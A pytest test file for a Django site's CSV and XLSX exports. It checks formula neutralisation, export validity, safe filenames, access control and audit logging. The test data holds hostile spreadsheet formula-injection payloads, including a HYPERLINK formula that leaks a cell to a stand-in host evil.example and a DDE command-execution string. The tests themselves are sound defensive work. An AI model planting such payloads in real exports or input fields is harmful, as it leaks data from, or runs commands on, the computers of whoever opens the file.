"""R10: CSV and XLSX exports neutralise spreadsheet formulas, stay valid, keep phones as typed."""

import csv
import io
import zipfile
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone
from wagtail.models import ModelLogEntry

from aslp_site.core.exports import csv_bytes, export_filename, neutralise, xlsx_bytes
from cohorts.models import Application, Role, Score

from . import factories as f

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]
PHONE = "+82 10-1234-5678"


# -- The generic writer ------------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE)
def test_neutralise_prefixes_formula_triggers(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["Somchai", "010 1234 5678", "", None, 12, "a=b", " =1"])
def test_neutralise_leaves_other_text_alone(value):
    assert neutralise(value) == ("" if value is None else str(value))


def test_csv_is_utf8_with_bom_and_neutralised():
    data = csv_bytes(["Name", "Phone"], [[text, PHONE] for text in HOSTILE] + [["김민지", "x,y"]])
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["Name", "Phone"]
    assert [row[0] for row in rows[1:-1]] == ["'" + text for text in HOSTILE]
    assert {row[1] for row in rows[1:-1]} == {"'" + PHONE}
    assert rows[-1] == ["김민지", "x,y"]


def test_xlsx_cells_are_all_text_and_formulas_cannot_run():
    data = xlsx_bytes(
        ["Name", "Phone", "Years"],
        [[text, PHONE, 12] for text in HOSTILE] + [["bad\x00\x07char", "010 1234 5678", None]],
        title="aslp-2026 applications",
    )
    archive = zipfile.ZipFile(io.BytesIO(data))
    sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula anywhere
    book = openpyxl.load_workbook(io.BytesIO(data))
    sheet = book.active
    rows = list(sheet.iter_rows(min_row=2))
    for row, text in zip(rows, HOSTILE, strict=False):
        name, phone, years = row
        # XML turns a carriage return into a line feed; the text stays otherwise as given.
        assert name.value == text.replace("\r", "\n")
        assert name.data_type == "s"
        assert name.quotePrefix is True
        assert phone.value == PHONE  # exactly as typed
        assert phone.data_type == "s"
        assert years.value == "12"
        assert years.data_type == "s"
    last = rows[-1]
    assert last[0].value == "bad\ufffd\ufffdchar"
    assert last[1].value == "010 1234 5678"
    assert last[1].quotePrefix is False
    assert sheet.title == "aslp-2026 applications"


def test_export_filename_is_safe():
    import datetime as dt

    assert export_filename("aslp-2026-reviews", "csv", dt.date(2026, 5, 1)) == (
        "aslp-2026-reviews-2026-05-01.csv"
    )
    assert export_filename('../x"y', "xlsx", dt.date(2026, 5, 1)) == "x-y-2026-05-01.xlsx"


# -- The organizers' exports -------------------------------------------------------------------


@pytest.fixture
def cohort():
    return f.cohort("aslp-2026", quotas={"ROK": 2, "THA": 2}, title="ASLP 2026")


@pytest.fixture
def organizer(cohort):
    person = f.user("olga@example.org")
    f.grant(person, Role.ORGANIZER, cohort)
    return person


@pytest.fixture
def world(cohort):
    hostile = f.application(
        cohort,
        f.user("mallory@example.org"),
        economy_code="ROK",
        family_name=HOSTILE[0],
        given_names="@cmd",
        phone=PHONE,
        school_name="-Busan School",
    )
    Application.objects.filter(pk=hostile.pk).update(
        score_mean=Decimal("4.25"), score_spread=Decimal("0.50"), review_count=1
    )
    thai = f.application(
        cohort,
        economy_code="THA",
        family_name="Jaidee",
        given_names="Somchai",
        phone="081 234 5678",
    )
    reviewer = f.user("rita@example.org", first_name="Rita", last_name="Reviewer")
    review = f.assign(hostile, reviewer)
    first, second = cohort.rubric.all()
    Score.objects.create(review=review, criterion=first, value=4)
    Score.objects.create(review=review, criterion=second, value=5)
    review.weighted_score = Decimal("4.33")
    review.comment = "=cmd|' /C calc'!A0"
    review.submitted_at = timezone.now()
    review.save()
    f.assign(thai, reviewer)
    return {"hostile": hostile, "thai": thai}


def export(client, cohort, what, **params):
    return client.get(
        reverse("cohorts:manage_export", kwargs={"slug": cohort.slug, "what": what}), params
    )


@pytest.mark.django_db
def test_applications_csv(client, cohort, organizer, world):
    client.force_login(organizer)
    response = export(client, cohort, "applications", format="csv")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == (
        f'attachment; filename="aslp-2026-applications-{today}.csv"'
    )
    assert response["Cache-Control"].startswith("max-age=0")
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    assert len(rows) == 2
    by_ref = {row["Reference"]: row for row in rows}
    hostile = by_ref[world["hostile"].reference]
    assert hostile["Family name (as in passport)"] == "'" + HOSTILE[0]
    assert hostile["Given names (as in passport)"] == "'@cmd"
    assert hostile["School or institution"] == "'-Busan School"
    assert hostile["Phone number"] == "'" + PHONE
    assert hostile["Economy"] == "Republic of Korea"
    assert hostile["Mean score"] == "4.25"
    assert hostile["E-mail"] == "mallory@example.org"
    assert by_ref[world["thai"].reference]["Phone number"] == "081 234 5678"


@pytest.mark.django_db
def test_applications_xlsx_respects_the_list_filters(client, cohort, organizer, world):
    client.force_login(organizer)
    response = export(client, cohort, "applications", format="xlsx", economy="ROK")
    assert response.status_code == 200
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert response["Content-Disposition"].startswith(
        'attachment; filename="aslp-2026-applications-'
    )
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    rows = list(book.active.iter_rows(values_only=False))
    headers = [cell.value for cell in rows[0]]
    assert len(rows) == 2  # the header and the one Korean application
    values = {header: cell for header, cell in zip(headers, rows[1], strict=True)}
    assert values["Family name (as in passport)"].value == HOSTILE[0]
    assert values["Family name (as in passport)"].quotePrefix is True
    assert values["Phone number"].value == PHONE
    assert values["Years of experience"].value == "12"
    assert all(cell.data_type == "s" for row in rows for cell in row if cell.value is not None)
    entry = ModelLogEntry.objects.get(action="cohorts.export")
    assert entry.user == organizer
    assert entry.data == {
        "what": "applications",
        "format": "xlsx",
        "rows": 1,
        "filters": {"economy": "ROK"},
    }


@pytest.mark.django_db
def test_reviews_export(client, cohort, organizer, world):
    client.force_login(organizer)
    response = export(client, cohort, "reviews", format="csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    assert rows[0] == [
        "Application reference",
        "Applicant",
        "Economy",
        "Reviewer",
        "Reviewer's e-mail",
        "Leadership experience (weight 2)",
        "Motivation (weight 1)",
        "Weighted score",
        "Comment",
        "Assigned (Asia/Seoul)",
        "Scored (Asia/Seoul)",
    ]
    assert len(rows) == 3
    scored = next(row for row in rows if row[0] == world["hostile"].reference)
    assert scored[3:9] == [
        "Rita Reviewer",
        "rita@example.org",
        "4",
        "5",
        "4.33",
        "'=cmd|' /C calc'!A0",
    ]
    pending = next(row for row in rows if row[0] == world["thai"].reference)
    assert pending[5:8] == ["", "", ""]
    assert pending[10] == ""
    assert ModelLogEntry.objects.filter(action="cohorts.export").count() == 1


@pytest.mark.django_db
def test_unknown_exports_and_formats_are_404(client, cohort, organizer):
    client.force_login(organizer)
    assert export(client, cohort, "users", format="csv").status_code == 404
    assert export(client, cohort, "applications", format="pdf").status_code == 404
    assert not ModelLogEntry.objects.filter(action="cohorts.export").exists()


@pytest.mark.django_db
def test_hostile_filters_are_ignored_and_audited_as_understood(client, cohort, organizer, world):
    client.force_login(organizer)
    response = export(
        client, cohort, "applications", format="csv", q="a\x00b", economy="NOPE", sort="score"
    )
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    assert len(rows) == 3
    entry = ModelLogEntry.objects.get(action="cohorts.export")
    assert entry.data["filters"] == {"sort": "score"}


@pytest.mark.django_db
def test_another_cohorts_organizer_cannot_export(client, cohort, world):
    stranger = f.user()
    f.grant(stranger, Role.ORGANIZER, f.cohort("aslp-2027"))
    client.force_login(stranger)
    assert export(client, cohort, "applications", format="csv").status_code == 404
    assert export(client, cohort, "reviews", format="xlsx").status_code == 404
    reviewer = f.user()
    f.grant(reviewer, Role.REVIEWER, cohort)
    client.force_login(reviewer)
    assert export(client, cohort, "applications", format="csv").status_code == 403
